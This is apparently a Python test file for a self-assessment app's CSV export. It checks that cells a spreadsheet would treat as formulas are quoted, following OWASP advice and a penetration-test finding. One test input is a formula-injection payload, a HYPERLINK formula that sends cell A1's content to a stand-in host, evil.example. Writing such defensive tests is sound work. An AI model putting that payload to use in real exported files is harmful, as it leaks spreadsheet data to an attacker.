"""Cells of every CSV the app writes are safe to open in a spreadsheet: text
that a spreadsheet would take for a formula (starting with =, +, -, @, a tab
or a carriage return) gets a leading single quote, as OWASP advises, while
numbers, negative ones included, stay numbers (penetration test, issue 10,
item 10)."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest

from selfassess import spreadsheet

SELFASSESS = Path(__file__).resolve().parents[2] / "selfassess"


@pytest.mark.parametrize(
    "text",
    ['=HYPERLINK("https://evil.example/?x="&A1,"Click")', "+1+2", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1", "-", "=-1"],
)
def test_text_a_spreadsheet_would_run_is_quoted(text):
    assert spreadsheet.cell(text) == "'" + text


@pytest.mark.parametrize("value", ["Fife", "Self-assessment 2026", "", "2.37", "-0.25", "-3", 0, -0.25, -3, 2.5, None])
def test_other_cells_and_numbers_are_left_as_they_are(value):
    assert spreadsheet.cell(value) == value


def test_the_writer_quotes_every_cell_that_needs_it():
    out = io.StringIO()
    writer = spreadsheet.writer(out)
    writer.writerow(["=1+1", "Fife", -0.25, "-0.25", "@me"])
    assert next(csv.reader(io.StringIO(out.getvalue()))) == ["'=1+1", "Fife", "-0.25", "-0.25", "'@me"]


def test_every_csv_is_written_through_the_one_writer():
    """No module but spreadsheet.py makes a csv writer of its own."""
    found = [
        str(path.relative_to(SELFASSESS))
        for path in SELFASSESS.rglob("*.py")
        if path.name != "spreadsheet.py" and re.search(r"csv\.(writer|DictWriter)\b", path.read_text())
    ]
    assert found == []
